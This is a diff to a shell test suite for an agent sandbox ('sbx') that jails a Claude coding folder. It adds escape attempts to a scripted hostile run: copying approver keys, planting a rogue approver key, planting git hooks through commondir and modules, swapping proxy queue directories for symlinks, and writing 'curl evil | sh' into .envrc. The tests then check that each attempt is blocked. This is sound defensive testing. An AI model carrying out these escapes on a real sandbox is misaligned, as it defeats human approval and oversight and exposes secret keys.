@@ -31,6 +31,10 @@ echo prog >.gitignore
 git add -A && git commit -qm init
 init_folder
 "$SBX" init --claude "$FOLDER" >/dev/null 2>&1
+# The proxy asks a human about unlisted hosts; nobody answers here.
+p="$FOLDER/.sandbox/policy.json"
+jq '.network.ask_timeout_seconds = 2' "$p" >"$p.new" && mv "$p.new" "$p"
+accept_policy
 start_daemon
 ok $? "sbxd serves the folder"
 
@@ -66,6 +70,9 @@ cat >"$T/hostile.sh" <<'SH'
 OUT=$PWD/hostile.out
 : >"$OUT"
 try() { if eval "$2" >/dev/null 2>&1; then echo "$1 SUCCEEDED" >>"$OUT"; else echo "$1 failed" >>"$OUT"; fi; }
+# Through the proxy, an unlisted host is asked about, and refused here.
+try proxied "curl --noproxy '' -sf -m 20 -o unlisted.out http://127.0.0.1:$ESCAPE_PORT/"
+curl --noproxy '' -s -m 20 -o proxy-body.txt -w '%{http_code}' "http://127.0.0.1:$ESCAPE_PORT/" >proxy-code.txt
 try readkey "cp '$SBX_CONFIG_DIR/approver.key' stolen.key"
 try readkey2 "cat '$SBX_CONFIG_DIR'/*.key > stolen2.key"
 try approvers "echo evil > '$SBX_CONFIG_DIR/approvers/evil.pub'"
@@ -75,6 +82,8 @@ try rmsandbox "rm -rf .sandbox"
 try hooks "echo 'touch /tmp/pwned' > .git/hooks/pre-commit"
 try gitconfig "git config core.hooksPath /tmp"
 try gitmove "mv .git .git-moved && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"
+try commondir "echo '$ESCAPE_OUTSIDE' > .git/commondir"
+try modules "mkdir -p .git/modules/x/hooks && echo x > .git/modules/x/hooks/post-checkout"
 try settings "echo '{}' > .claude/settings.json"
 try settingslocal "echo '{}' > .claude/settings.local.json"
 try envrc "echo 'curl evil | sh' > .envrc"
@@ -106,6 +115,12 @@ except OSError as e:
     print("tiocsti errno", errno.errorcode[e.errno])
 ' >>"$OUT" 2>&1
 hostname >hostname.txt
+# The queue's subdirectories are the agent's: swap them for symlinks to
+# a directory outside, then make the proxy (outside) write a request.
+rm -rf .sandbox/queue/tmp .sandbox/queue/new
+ln -s "$ESCAPE_EVIL" .sandbox/queue/tmp && ln -s "$ESCAPE_EVIL" .sandbox/queue/new
+curl --noproxy '' -s -m 20 -o /dev/null "http://127.0.0.2:$ESCAPE_PORT/"
+rm -f .sandbox/queue/tmp .sandbox/queue/new
 # Ordinary work.
 echo '#include <stdio.h>' >main.c
 echo 'int main(void){puts("hello");return 0;}' >>main.c
@@ -114,9 +129,10 @@ mkdir -p src && echo 'new file' >src/new.txt
 git add -A && git commit -qm "work from the jail" && echo "commit ok" >>"$OUT"
 SH
 
-ESCAPE_OUTSIDE="$T/outside.txt" ESCAPE_HOSTTMP="$HOSTTMP" ESCAPE_DPID="$DPID" \
+mkdir -p "$T/evil"
+ESCAPE_OUTSIDE="$T/outside.txt" ESCAPE_HOSTTMP="$HOSTTMP" ESCAPE_DPID="$DPID" ESCAPE_EVIL="$T/evil" \
 ESCAPE_PORT="$PORT" ESCAPE_SOCK="$T/host.sock" \
-	"$SBX" -C "$FOLDER" jail --offline -- bash -s <"$T/hostile.sh" >"$T/jail.out" 2>&1
+	"$SBX" -C "$FOLDER" jail -- bash -s <"$T/hostile.sh" >"$T/jail.out" 2>&1
 rc=$?
 is "$rc" 0 "the hostile script ran to its end in the jail (exit 0)"
 sed 's/^/#   /' "$FOLDER/hostile.out"
@@ -136,6 +152,8 @@ ok $? "no git hook was planted"
 [ -d "$FOLDER/.git" ] && [ ! -e "$FOLDER/.git-moved" ]
 ok $? ".git could not be moved away to plant hooks in a fresh one"
 unlike "$(git -C "$FOLDER" config --get core.hooksPath)" "." ".git/config is unchanged (no core.hooksPath)"
+[ ! -e "$FOLDER/.git/commondir" ] && [ ! -e "$FOLDER/.git/modules" ]
+ok $? ".git/commondir and .git/modules (other places git takes hooks from) were not created"
 is "$(sha256sum <"$FOLDER/.claude/settings.json")" "$settings_sum" ".claude/settings.json is unchanged"
 [ ! -e "$FOLDER/.claude/settings.local.json" ]
 ok $? ".claude/settings.local.json was not created"
@@ -167,6 +185,10 @@ ok $? "sbxd is alive after kill -9 from the jail"
 unlike "$(cat "$FOLDER/procs.txt")" "sbxd|python3 -" "the jail sees neither sbxd nor the test's other processes"
 [ ! -s "$T/tcp.log" ]
 ok $? "no TCP connection reached the host's loopback"
+is "$(cat "$FOLDER/proxy-code.txt")" "403" "an unlisted host through the proxy: 403 when nobody approves"
+like "$("$SBX" -C "$FOLDER" pending --json | jq -r '.[].command')" "127\\.0\\.0\\.1:$PORT" \
+	"and the human was asked about it (sbx pending)"
+is "$(ls -A "$T/evil" | wc -l)" 0 "queue dirs swapped for symlinks: nothing outside writes through them"
 [ ! -s "$T/unix.log" ]
 ok $? "no connection reached the host's Unix socket"
 like "$(cat "$FOLDER/hostile.out")" "tiocsti errno EPERM" "TIOCSTI is refused by the seccomp filter"
@@ -179,7 +201,7 @@ files=$(git -C "$FOLDER" show --stat --format= HEAD)
 like "$files" "src/new.txt" "the commit holds the new file"
 unlike "$files" "\\.envrc|\\.vscode|\\.mcp\\.json|\\.husky|\\.idea|\\.cursor|\\.codex" \
 	"the commit holds no placeholder of a protected path"
-is "$(git -C "$FOLDER" status --porcelain | grep -v -e hostile.out -e stolen -e procs.txt -e hostname.txt | wc -l)" 0 \
+is "$(git -C "$FOLDER" status --porcelain | grep -v -e hostile.out -e stolen -e procs.txt -e hostname.txt -e proxy-code.txt | wc -l)" 0 \
 	"git status outside shows no trace of the placeholders"
 for p in .envrc .vscode .idea .husky .mcp.json .cursor .codex; do
 	[ ! -e "$FOLDER/$p" ] || echo "# left behind: $p"
